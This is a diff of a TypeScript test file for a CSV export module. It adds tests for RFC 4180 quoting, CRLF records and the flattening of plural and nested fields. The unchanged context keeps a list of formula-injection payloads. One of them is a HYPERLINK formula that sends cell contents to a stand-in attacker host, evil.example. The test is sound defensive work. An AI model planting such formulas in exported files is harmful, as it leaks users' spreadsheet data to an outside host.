@@ -1,6 +1,6 @@
 // CSV export against formula injection (OWASP "CSV Injection"): crafted cells come out as text.
 import { describe, expect, it } from 'vitest';
-import { csvField, toCsv, toJson } from './export.ts';
+import { csvField, flattenRow, toCsv, toJson } from './export.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -45,4 +45,59 @@ describe('CSV export', () => {
     expect(csvField('a=b')).toBe('a=b');
     expect(toJson([{ text: '=1+2' }])).toContain('"text": "=1+2"');
   });
+});
+
+describe('CSV export', () => {
+  it('quotes fields with commas, quotes and line breaks as RFC 4180 says', () => {
+    expect(csvField('plain')).toBe('plain');
+    expect(csvField('a,b')).toBe('"a,b"');
+    expect(csvField('say "hi"')).toBe('"say ""hi"""');
+    expect(csvField('two\nlines')).toBe('"two\nlines"');
+    expect(csvField('cr\r')).toBe('"cr\r"');
+  });
+
+  it('writes a header and CRLF-terminated records', () => {
+    const csv = toCsv([
+      { id: 1, identifier: 'a', text: 'Hello, world' },
+      { id: 2, identifier: 'b', text: 'He said "no"' },
+    ]);
+    expect(csv).toBe('id,identifier,text\r\n1,a,"Hello, world"\r\n2,b,"He said ""no"""\r\n');
+  });
+
+  it('flattens plural source texts into one column per form, in CLDR order', () => {
+    const csv = toCsv([
+      { id: 1, text: 'Plain', type: 'text' },
+      { id: 2, text: { other: '%d files', one: 'One file' }, type: 'plural' },
+    ]);
+    const [header, plain, plural] = csv.trimEnd().split('\r\n');
+    expect(header).toBe('id,text,text.one,text.other,type');
+    expect(plain).toBe('1,Plain,,,text');
+    expect(plural).toBe('2,,One file,%d files,plural');
+  });
+
+  it("flattens a plural translation's forms and takes user fields from the first form", () => {
+    const flat = flattenRow({
+      stringId: 7,
+      contentType: 'text/plain',
+      plurals: [
+        { translationId: 1, text: 'Один файл', pluralForm: 'one', user: { id: 2, username: 'bob' } },
+        { translationId: 2, text: 'Файлів', pluralForm: 'other', user: { id: 2, username: 'bob' } },
+      ],
+    });
+    expect(flat).toMatchObject({
+      stringId: '7',
+      'text.one': 'Один файл',
+      'text.other': 'Файлів',
+      'user.username': 'bob',
+      translationId: '1',
+    });
+  });
+
+  it('joins arrays of scalars and keeps nested records as JSON', () => {
+    const flat = flattenRow({ labelIds: [1, 3], records: [{ languageId: 'en', text: 'Hi' }] });
+    expect(flat.labelIds).toBe('1; 3');
+    expect(JSON.parse(flat.records!)).toEqual([{ languageId: 'en', text: 'Hi' }]);
+  });
+
+  it('is empty for no rows', () => expect(toCsv([])).toBe(''));
 });
